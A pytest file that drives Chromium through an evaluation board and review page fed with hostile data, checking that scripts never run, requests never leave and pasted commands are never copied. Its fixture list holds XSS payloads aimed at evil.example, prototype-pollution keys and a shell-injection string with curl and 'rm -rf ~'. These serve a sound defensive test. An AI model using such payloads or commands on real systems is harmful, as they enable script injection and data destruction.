"""Both pages in Chromium, made of data that want to run, to send and to be pasted, whatever their layout.

Every button is pressed, every tab and disclosure opened. No script runs but the page's own, no request
leaves, nothing is copied that a file asked for, and names that JavaScript's objects have are plain names.
"""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from hf_evaluation.core.hub_requests import hub_endpoint
from hf_evaluation.surveying.proposals import read_proposal
from hf_evaluation.surveying.review import review_page
from tests.board.support import build_site
from tests.browser import Watch
from tests.fuzz import PLAN
from tests.survey_files import gap, lines, model, score

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

RUNS = "window.ran = 1"
EVIL = (
    f"<script>{RUNS}</script>",
    f'"><img src=https://evil.example/x onerror="{RUNS}">',
    f"</script></style></textarea></title><svg onload={RUNS.replace(' ', '')}>",
    f"javascript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    "https://evil.example/?<b>",
    "//evil.example/x",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "$(curl evil.example)`id`; rm -rf ~ #",
    "--apply",
    "@import url(https://evil.example/x.css);",
    "&lt;img src=x onerror=alert(1)&gt;",
)
PASTED = "rm -rf ~ # from a file"
# What a button may copy or save is noted instead of done.
NOTED = """
window.copied = [];
Object.defineProperty(navigator, "clipboard", {value: {
  writeText: async (text) => { window.copied.push(text); },
  write: async (items) => { window.copied.push(String(items)); },
}});
for (const name of ["alert", "confirm", "prompt", "open"]) {
  window[name] = (...told) => { window.ran = [name, told]; };
}
document.execCommand = () => { window.copied.push(String(getSelection())); return true; };
"""


def hostile_board(folder: Path) -> Path:
    made = []
    for at, evil in enumerate(EVIL):
        repo_id = f"acme/{evil}" if at % 2 else evil
        reports = [
            score(evil, 50.0 + at, repo_id, benchmark=evil, variant=evil, raw=evil, url=evil, name=evil,
                  metric=evil, unit=evil, method={evil: evil, "notes": evil}),
            score("gsm8k", 40.0 + at, repo_id, variant=evil, raw=evil, url=evil, revision=evil, date=evil),
            score("gsm8k", 60.0 + at, repo_id, url=f"{hub_endpoint()}/{evil}", kind=evil, status=evil),
        ]  # fmt: skip
        gaps = [
            gap(
                evil,
                state,
                benchmark=evil,
                command=PASTED,
                task=evil,
                flavor=evil,
                creator=evil,
                offered=evil,
            )
            for state in ("in_pr", "in_readme", "on_artificial_analysis", "to_measure", evil)
        ]
        made.append(
            model(repo_id, *reports, url=evil, author=evil, license=evil, kind=evil, dtype=evil, sha=evil,
                  selection=evil, base_models=[evil, "__proto__"], gaps=gaps,
                  skipped=[{"table": at, "reason": evil}])
        )  # fmt: skip
    made.append(model("acme/failed", error={"code": 3, "message": EVIL[1]}))
    return build_site(folder, lines(made), title=EVIL[2])


def hostile_review(folder: Path) -> Path:
    proposals = []
    for evil in EVIL:
        row: Any = json.loads(json.dumps(PLAN))
        row |= {"repo_id": f"acme/{evil}", "url": evil, "files": [{"path": evil, "diff": evil}]}
        item = row["scores"][0]
        item["score"] |= {"benchmark": evil, "variant": evil, "raw": evil}
        item["writes"] = {"path": evil, "text": evil}
        item["evidence"] |= {"head": [[evil, evil]], "row": [evil, evil], "url": evil}
        row["left_out"][0] |= {"benchmark": evil, "variant": evil, "detail": evil, "status": evil}
        proposals.append(read_proposal(row, "plan"))
    path = folder / "review.html"
    path.write_text(review_page(proposals, EVIL[1]), "utf-8")
    return path


def press_everything(page: Page) -> None:
    """Open what can be opened and press what can be pressed, twice, for the first may show the second."""
    for at in range(1 + page.locator("[role=tab]").count()):
        page.reload()
        page.evaluate(
            """async (at) => {
                const found = (what) => [...document.querySelectorAll(what)];
                found("[role=tab]")[at - 1]?.click();
                const drawn = () => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 30)));
                await drawn();
                for (const one of found("details")) one.open = true;
                await drawn();  // what a disclosure holds may be made when it opens
                const what = "button:not([role=tab]), [role=button], summary, th, td, input[type=checkbox]";
                const first = (one) => (/copy/i.test(one.textContent) ? 0 : 1);  // others draw anew
                const all = found(what).sort((one, other) => first(one) - first(other));
                for (const one of all) if (one.isConnected) one.click();
                localStorage.setItem("copied", (localStorage.getItem("copied") ?? "") + copied.join("\\n"));
                if (window.ran) throw new Error(`ran ${window.ran}`);
            }""",
            at,
        )
    page.keyboard.press("Escape")


@pytest.mark.parametrize("make", [hostile_board, hostile_review])
def test_what_strangers_wrote_stays_text_on_a_page(
    make: Any, context: BrowserContext, tmp_path: Path
) -> None:
    page = context.new_page()
    page.add_init_script(NOTED)
    watch = Watch("file://")
    watch.on(page)
    page.goto(make(tmp_path).as_uri())
    shown = page.evaluate("document.documentElement.textContent")
    assert EVIL[1] in shown, "the data are there"
    press_everything(page)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("({}).polluted === undefined && Object.keys(Object.prototype).length === 0")
    assert page.locator("img, iframe, object, embed, base, form[action], link[href^=http]").count() == 0
    for link in page.eval_on_selector_all("a[href]", "all => all.map(a => a.href)"):
        assert re.match(rf"{re.escape(hub_endpoint())}/|file://|blob:|https://evil\.example/\?", link), link
    for link in page.locator("a[href^='https://evil']").all():
        assert "noopener" in (link.get_attribute("rel") or "") or link.get_attribute("target") is None
    copied = page.evaluate("localStorage.getItem('copied')").splitlines()
    assert make is hostile_review or any("evaluation_manager.py" in text for text in copied)
    assert not any(PASTED in text for text in [*copied, shown])
    for text in copied:
        if "evaluation_manager.py" in text or "eval_jobs.py" in text:
            for line in text.splitlines():
                assert not {"curl", "rm", ";"} & set(shlex.split(line)), line
    watch.assert_quiet()
